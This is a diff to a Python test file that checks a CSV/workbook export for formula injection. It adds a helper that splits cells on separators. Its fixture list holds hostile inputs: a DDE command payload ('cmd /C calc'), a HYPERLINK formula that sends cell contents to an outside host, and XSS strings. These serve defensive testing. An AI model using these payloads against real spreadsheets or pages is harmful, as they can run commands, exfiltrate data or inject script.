@@ -32,7 +32,7 @@ from tests.stores import put_document
 
 TEXTS = [
     '=HYPERLINK("http://x.invalid?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " \t=1+1",
-    "＝1+1", "﹢1", "−1", "'=1", "'quoted'", 'a","b\r\n=1', "a;=1", "\n=1",
+    "＝1+1", "﹢1", "−1", "'=1", "'quoted'", 'a","b\r\n=1', "a;=1", "\n=1", "a;' =1\t-2;;+3\r\n@4",
     "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(1)>", "]]></content><entry/>",
     "&lt;b&gt; &amp;amp;",
     "<r><t>x</t></r>", "<r></is></c><c r='A1'><f>1+1</f></c><is></r>", "_x0041_x_x000D_",
@@ -100,20 +100,30 @@ def acts(cell: str) -> bool:
     return seen.replace("\u2212", "-")[:1] in tuple(ACTING) or cell[:1] in ("\t", "\r", "\n")
 
 
+def pieces(cell: str) -> list[str]:
+    """What *cell* is where another sign separates cells."""
+    return [cell, *re.split("[;\t\r\n]", cell)[1:]]
+
+
+def text_of(cell: str) -> str:
+    """The text of *cell*, as docs/export.md says."""
+    return re.sub("(^|[;\t\r\n])'", r"\1", cell)
+
+
 def test_no_cell_of_csv_acts_and_each_gives_its_text_back(out: Path) -> None:
     with (out / "figures.csv").open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
     texts = [row[name] for row in rows for name in ("evidence", "unit", "section", "picture")]
-    assert [text for text in texts if acts(text)] == []
-    assert [row["evidence"].removeprefix("'") for row in rows] == [replace_unsafe(text) for text in TEXTS]
+    assert [piece for text in texts for piece in pieces(text) if acts(piece)] == []
+    assert [text_of(row["evidence"]) for row in rows] == [replace_unsafe(text) for text in TEXTS]
     assert {row["change_pct"] for row in rows} == {"-20.0"}  # a number stays one
 
 
 @given(st.text(st.sampled_from("=+-@'＝＋－＠﹦⁺₌−\t\r\n \u3000\u200b\ufeff\u00ad,;\"a1") | st.characters()))
 def test_the_guard_of_cells_hides_formulas_and_loses_nothing(text: str) -> None:
     cell = escape_formula(replace_unsafe(text))
-    assert not acts(cell)
-    assert cell.removeprefix("'") == replace_unsafe(text)
+    assert not any(map(acts, pieces(cell)))
+    assert text_of(cell) == replace_unsafe(text)
 
 
 def test_cells_of_a_workbook_are_texts(out: Path) -> None:
